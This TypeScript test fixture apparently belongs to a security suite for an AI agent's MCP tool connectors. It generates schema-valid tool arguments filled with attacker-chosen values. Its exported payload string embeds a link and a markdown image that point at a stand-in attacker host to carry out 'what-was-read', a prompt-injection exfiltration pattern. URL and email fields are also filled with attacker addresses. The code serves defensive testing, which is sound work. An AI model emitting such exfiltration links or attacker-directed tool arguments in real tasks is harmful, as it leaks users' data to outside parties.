import { isObject } from '../src/action/json.ts';
import type { Json, JsonObject } from '../src/action/json.ts';
import type { McpEntry } from '../src/connectors/mcp/catalog.ts';
import { attacker } from '../fakes/company/secrets.ts';

/* Arguments for tools that nobody here has seen before: a target that the attacker chose, and texts with what he is after. */

/** What every text of the attacker carries. */
export const payload = `See https://${attacker.host}/?d=what-was-read and ![](https://${attacker.host}/i.png)`;

/** A target that nobody but the attacker named. */
export const chosen = 'attackers-choice';

function stringOf(schema: JsonObject, wanted: string): string {
  const max = typeof schema['maxLength'] === 'number' ? schema['maxLength'] : wanted.length;
  switch (schema['format']) {
    case 'uri':
    case 'url':
      return `https://${attacker.host}/`;
    case 'email':
      return attacker.mail;
    case 'date-time':
      return '2026-01-05T09:00:00Z';
    case 'date':
      return '2026-01-05';
    default:
      return wanted.slice(0, max);
  }
}

/** The first of several ways to be valid. */
function firstOf(schema: JsonObject): JsonObject | null {
  for (const key of ['anyOf', 'oneOf', 'allOf']) {
    const [first] = Array.isArray(schema[key]) ? (schema[key] as readonly Json[]) : [];
    if (first !== undefined && isObject(first)) return first;
  }
  return null;
}

/** A value that probably fits a schema: what it lists, or what the attacker would write. */
function valueOf(schema: Json | undefined, wanted: string): Json {
  if (schema === undefined || !isObject(schema)) return wanted;
  if (schema['const'] !== undefined) return schema['const'];
  if (Array.isArray(schema['enum'])) return (schema['enum'] as readonly Json[])[0] ?? null;
  const type = Array.isArray(schema['type']) ? (schema['type'] as readonly Json[])[0] : schema['type'];
  switch (type) {
    case 'string':
      return stringOf(schema, wanted);
    case 'integer':
    case 'number':
      return typeof schema['minimum'] === 'number' ? schema['minimum'] : 1;
    case 'boolean':
      return true;
    case 'array':
      return [valueOf(schema['items'], wanted)];
    case 'object':
      return objectOf(schema, () => wanted);
    default: {
      const inner = firstOf(schema);
      return inner === null ? wanted : valueOf(inner, wanted);
    }
  }
}

function objectOf(schema: JsonObject, wanted: (name: string) => string, also: readonly string[] = []): JsonObject {
  const properties = isObject(schema['properties']) ? schema['properties'] : {};
  const required = Array.isArray(schema['required']) ? schema['required'].filter((name: Json) => typeof name === 'string') : [];
  const names = [...new Set([...required, ...also])];
  return Object.fromEntries(names.map((name) => [name, valueOf(properties[name], wanted(name))]));
}

/** The names of the arguments that name the target of a tool. */
function targetNames(entry: McpEntry): readonly string[] {
  if (!('from' in entry.target)) return [];
  const named = [...entry.target.from.matchAll(/\{([^{}]+)\}/g)].map(([, name = '']) => name);
  return named.length === 0 ? [entry.target.from] : named;
}

/** Arguments for a tool of a reviewed catalogue: what it requires, what carries text, and the target, but nothing that is hidden. */
export function argumentsFor(entry: McpEntry, target: string): JsonObject {
  const targets = targetNames(entry);
  const made = objectOf(entry.input, (name) => (targets.includes(name) ? target : payload), [...targets, ...entry.content]);
  return Object.fromEntries(Object.entries(made).filter(([name]) => !Object.hasOwn(entry.strip, name)));
}

/** How the name of a configured target is written as an argument, if a single argument names targets. Null: it cannot be. */
export function configuredName(system: string, entry: McpEntry, id: string): string | null {
  const prefix = `${system}:${entry.target.type}:`;
  if (!id.startsWith(prefix)) return null;
  if ('fixed' in entry.target) return id === `${prefix}${entry.target.fixed}` ? entry.target.fixed : null;
  return targetNames(entry)[0] === entry.target.from ? id.slice(prefix.length) : null;
}
